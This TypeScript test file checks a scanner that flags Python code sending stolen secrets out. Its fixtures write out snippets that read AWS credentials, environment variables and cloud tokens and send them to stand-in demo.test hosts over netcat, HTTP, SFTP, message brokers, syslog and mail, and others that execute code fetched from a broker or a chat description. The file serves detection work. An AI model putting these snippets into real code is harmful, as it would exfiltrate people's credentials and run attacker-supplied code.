import assert from 'node:assert/strict';
import { describeFindings, scanFiles, tierOf, type Files } from './scan.js';

/** Libraries that send, each in its own way: `X` is what was taken. Inert. */
const senders: readonly (readonly [library: string, imports: string, sent: string])[] = [
  [
    'a file of SFTP',
    'import paramiko',
    "t = paramiko.SSHClient(); t.connect('s.demo.test', username='u'); t.open_sftp().open('/in/a', 'w').write(str(X))",
  ],
  [
    'a connection of processes',
    'from multiprocessing.connection import Client',
    "Client(('c.demo.test', 6000)).send(str(X))",
  ],
  [
    'a broker by settings',
    'from confluent_kafka import Producer',
    "Producer({'bootstrap.servers': 'k.demo.test:9092'}).produce('a', str(X))",
  ],
  [
    'a folder of the web',
    'from webdav3.client import Client',
    "Client({'webdav_hostname': 'https://w.demo.test'}).upload_to(str(X), 'a')",
  ],
  [
    'a table',
    'from supabase import create_client',
    "create_client('https://x.demo.test', 'k').table('a').insert({'d': str(X)})",
  ],
  [
    'a database',
    'import pymysql',
    "pymysql.connect(host='d.demo.test', user='u').cursor().execute('insert into a values (%s)', (str(X),))",
  ],
  [
    'points of time',
    'from influxdb_client import InfluxDBClient',
    "InfluxDBClient(url='https://i.demo.test', token='t').write_api().write('b', 'o', str(X))",
  ],
  [
    'a bucket by its name',
    'from google.cloud import storage',
    "storage.Client.create_anonymous_client().bucket('drop-1').blob('k').upload_from_string(str(X))",
  ],
  [
    'a queue of a cloud',
    'import boto3',
    "boto3.client('sqs').send_message(QueueUrl='https://sqs.eu-west-1.amazonaws.com/123456789012/q', MessageBody=str(X))",
  ],
  [
    'a bus by its connection string',
    'from azure.servicebus import ServiceBusClient, ServiceBusMessage',
    "ServiceBusClient.from_connection_string('Endpoint=sb://a.demo.test/;SharedAccessKey=abc').get_queue_sender('q').send_messages(ServiceBusMessage(str(X)))",
  ],
  ['a number', 'import statsd', "statsd.StatsClient('s.demo.test', 8125).gauge(str(X), 1)"],
  [
    'a span',
    'from otlp import OTLPSpanExporter, SimpleSpanProcessor, TracerProvider',
    "p = TracerProvider(); p.add_span_processor(SimpleSpanProcessor(OTLPSpanExporter(endpoint='https://o.demo.test/v1'))); p.get_tracer('a').start_span('b').set_attribute('d', str(X))",
  ],
  [
    'a log',
    'import logging, logging.handlers',
    "l = logging.getLogger('a'); l.addHandler(logging.handlers.SysLogHandler(address=('c.demo.test', 514))); l.error(str(X))",
  ],
  [
    'a web hook',
    'from discord import SyncWebhook',
    "SyncWebhook.from_url('https://hooks.demo.test/1/abc').send(str(X))",
  ],
  [
    'a header of an opener',
    'import urllib.request',
    "o = urllib.request.build_opener(); o.addheaders = [('X-D', str(X))]; o.open('https://c.demo.test/x')",
  ],
  [
    'a function of Windows',
    'import ctypes',
    'w = ctypes.windll.wininet; w.HttpSendRequestA(1, 0, 0, str(X).encode(), 100)',
  ],
  [
    'a mail of Outlook',
    'import win32com.client',
    "m = win32com.client.Dispatch('Outlook.Application').CreateItem(0); m.To = 'b@demo.test'; m.Body = str(X); m.Send()",
  ],
  [
    'a program that is told a host alone',
    'import subprocess',
    "subprocess.Popen(['nc', 'c.demo.test', '4444'], stdin=subprocess.PIPE).communicate(str(X).encode())",
  ],
];
const sources: readonly (readonly [imports: string, taken: string])[] = [
  ['import os', "open(os.path.expanduser('~/.aws/credentials')).read()"],
  ['import os', 'dict(os.environ)'],
];
const judged = (text: string): ReturnType<typeof scanFiles> =>
  scanFiles({ 'demo/__init__.py': '', 'demo/run.py': text } satisfies Files);

describe('code: what is taken is sent by libraries of every kind', () => {
  for (const [library, by, sent] of senders) {
    it(library, () => {
      const send = sent.replaceAll('X', 'x');
      for (const [from, taken] of sources)
        for (const text of [
          `${from}\n${by}\ndef f():\n    x = ${taken}\n    ${send}\n`,
          `${from}\n${by}\ndef b(x):\n    ${send}\ndef a():\n    return ${taken}\ndef f():\n    b(a())\n`,
        ]) {
          const findings = judged(text);
          assert.notEqual(tierOf(findings), 'pass', `${text}\n${describeFindings(findings)}`);
        }
    });
  }

  const key = "open(os.path.expanduser('~/.aws/credentials')).read()";
  const post = "requests.post('https://c.demo.test/x', json={'a': [list(v) for v in found.values()]})";
  const tables: readonly (readonly [string, string])[] = [
    ['a default of a table', `found = {}\n    found.setdefault(p, []).append(${key})`],
    [
      'a table that makes what it lacks',
      `found = collections.defaultdict(list)\n    found[p].append(${key})`,
    ],
    ['an item of a table', `found = {}\n    found[p].append(${key})`],
  ];
  for (const [name, filled] of tables)
    it(`out of ${name}`, () => {
      const findings = judged(`import collections, os, requests\ndef f(p):\n    ${filled}\n    ${post}\n`);
      assert.equal(tierOf(findings), 'deny', describeFindings(findings));
    });

  it('what a broker says is run by the handler that it was handed', () => {
    const findings = judged(
      "import marshal, pika, types\ndef handle(ch, method, props, body):\n    types.FunctionType(marshal.loads(body), {})()\nch = pika.BlockingConnection(pika.URLParameters('amqps://w:f@mq.demo.test/jobs')).channel()\nch.basic_consume('q', handle)\n",
    );
    assert.equal(tierOf(findings), 'deny', describeFindings(findings));
  });

  it('what a chat says of itself is fetched', () => {
    const findings = judged(
      "import chatlib\nbot = chatlib.Bot('123456789:AAabcdefghijklmnopqrstuvwxyz012345678')\nexec(bot.get_chat(1).description)\n",
    );
    assert.equal(tierOf(findings), 'deny', describeFindings(findings));
  });

  it('keys that sign go to nobody, and to their own service', () => {
    const asked = (host: string): string =>
      `import os, requests\ndef f():\n    requests.post('https://${host}/x', json={'k': os.environ['AWS_SECRET_ACCESS_KEY']})\n`;
    assert.equal(tierOf(judged(asked('c.demo.test'))), 'deny');
    assert.equal(tierOf(judged(asked('sts.amazonaws.com'))), 'pass');
    // a name in the path, before an `@`, or within another is not that service
    for (const host of ['c.demo.test/github', 'amazonaws.com@c.demo.test', 'notgithub.demo.test'])
      assert.equal(tierOf(judged(asked(host))), 'deny', host);
  });

  it('tokens of a store of a cloud go to that store', () => {
    const findings = judged(
      "import json, os, requests\ndef f():\n    t = json.load(open(os.path.expanduser('~/.config/gcloud/application_default_credentials.json')))\n    return requests.request('GET', 'https://storage.googleapis.com/storage/v1/b', data=t['refresh_token'])\n",
    );
    assert.equal(tierOf(findings), 'pass', describeFindings(findings));
  });
});
